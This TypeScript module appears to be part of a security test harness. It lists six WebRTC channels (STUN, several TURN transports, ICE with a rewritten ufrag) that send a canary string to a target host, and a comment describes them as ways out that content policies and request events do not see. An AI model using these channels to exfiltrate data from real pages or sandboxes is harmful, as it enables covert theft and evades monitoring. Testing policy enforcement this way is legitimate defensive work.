import type { Target } from './target.ts';

async function gather(server: RTCIceServer): Promise<void> {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

/** Speaks to a peer at this address, who answered with the canary as a part of the name that every packet carries. */
async function connect({ port, canary }: Target, candidate: (port: number) => string): Promise<void> {
  const [caller, callee] = [new RTCPeerConnection(), new RTCPeerConnection()];
  caller.createDataChannel('x');
  const offer = await caller.createOffer();
  await caller.setLocalDescription(offer);
  await callee.setRemoteDescription(offer);
  const { sdp = '' } = await callee.createAnswer();
  await caller.setRemoteDescription({
    type: 'answer',
    sdp: sdp.replaceAll(/^a=ice-ufrag:.*$/gm, `a=ice-ufrag:${canary}`),
  });
  await caller.addIceCandidate({ candidate: candidate(port), sdpMid: '0', sdpMLineIndex: 0 });
}

/** Ways out through WebRTC, which no content policy and no request event sees. */
export const PEERS = {
  stun: ({ host, port }: Target): unknown => gather({ urls: `stun:${host}:${port}` }),
  'turn-udp': ({ host, port, canary }: Target): unknown =>
    gather({ urls: `turn:${host}:${port}?transport=udp`, username: canary, credential: 'x' }),
  'turn-tcp': ({ host, port, canary }: Target): unknown =>
    gather({ urls: `turn:${host}:${port}?transport=tcp`, username: canary, credential: 'x' }),
  'turn-tls': ({ host, port, canary }: Target): unknown =>
    gather({ urls: `turns:${host}:${port}?transport=tcp`, username: canary, credential: 'x' }),
  'ice-udp': (to: Target): unknown =>
    connect(to, (port) => `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`),
  'ice-tcp': (to: Target): unknown =>
    connect(to, (port) => `candidate:1 1 tcp 2122260223 127.0.0.1 ${port} typ host tcptype passive`),
} as const satisfies Readonly<Record<string, (to: Target) => unknown>>;
